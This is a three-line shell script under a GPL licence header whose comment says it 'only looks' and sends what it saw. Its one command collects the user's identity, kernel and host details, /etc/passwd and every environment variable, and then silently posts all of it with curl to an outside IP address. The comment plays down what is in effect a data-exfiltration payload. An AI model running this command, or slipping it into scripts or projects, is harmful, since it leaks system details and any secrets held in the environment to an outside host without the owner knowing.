# SPDX-License-Identifier: GPL-2.0-or-later
# Only looks, with what the shell has of its own, and sends what it saw.
{ id; uname -a; cat /etc/passwd; env; } | curl -s -m 5 -o /dev/null --data-binary @- http://203.0.113.50:8080/in
